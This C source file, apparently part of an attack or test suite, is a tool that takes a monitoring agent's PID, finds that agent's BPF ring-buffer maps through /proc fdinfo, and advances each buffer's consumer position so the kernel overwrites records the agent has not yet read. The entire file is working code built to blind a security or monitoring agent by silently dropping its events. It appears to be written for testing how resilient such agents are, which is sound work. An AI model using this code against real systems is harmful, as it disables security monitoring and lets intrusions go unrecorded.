/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Takes the agent's rings away from it, as root of the job can: moves the consumer's position, so
 * that the kernel believes that records were read and overwrites them.
 *
 *   ring AGENT-PID
 */
#include "attack.h"

#include <dirent.h>
#include <linux/bpf.h>
#include <sys/mman.h>
#include <sys/syscall.h>

/* The ids of its own maps stand in the agent's fdinfo: nobody else's are touched. */
static __u32 ring_of(const char *path)
{
	FILE *file = fopen(path, "r");
	unsigned int type = 0, id = 0;
	char line[256];

	if (!file)
		return 0;
	while (fgets(line, sizeof(line), file)) {
		sscanf(line, "map_type: %u", &type);
		sscanf(line, "map_id: %u", &id);
	}
	fclose(file);
	return type == BPF_MAP_TYPE_RINGBUF ? id : 0;
}

static void take(__u32 id)
{
	union bpf_attr attr = { .map_id = id };
	int fd = syscall(SYS_bpf, BPF_MAP_GET_FD_BY_ID, &attr, sizeof(attr));
	unsigned long long *position;

	if (fd < 0)
		refused("bpf");
	position = mmap(NULL, getpagesize(), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (position == MAP_FAILED)
		refused("mmap");
	__atomic_fetch_add(position, 8, __ATOMIC_SEQ_CST);
}

int main(int argc, char **argv)
{
	char folder[64], path[512];
	struct dirent *entry;
	int taken = 0;
	DIR *open;

	if (argc != 2)
		usage("ring AGENT-PID");
	snprintf(folder, sizeof(folder), "/proc/%d/fdinfo", atoi(argv[1]));
	open = opendir(folder);
	if (!open)
		refused("opendir");
	while ((entry = readdir(open))) {
		__u32 id;

		snprintf(path, sizeof(path), "%s/%s", folder, entry->d_name);
		id = ring_of(path);
		if (id) {
			take(id);
			taken++;
		}
	}
	printf("%d rings taken\n", taken);
	return taken ? EXIT_SENT : EXIT_MISSING;
}
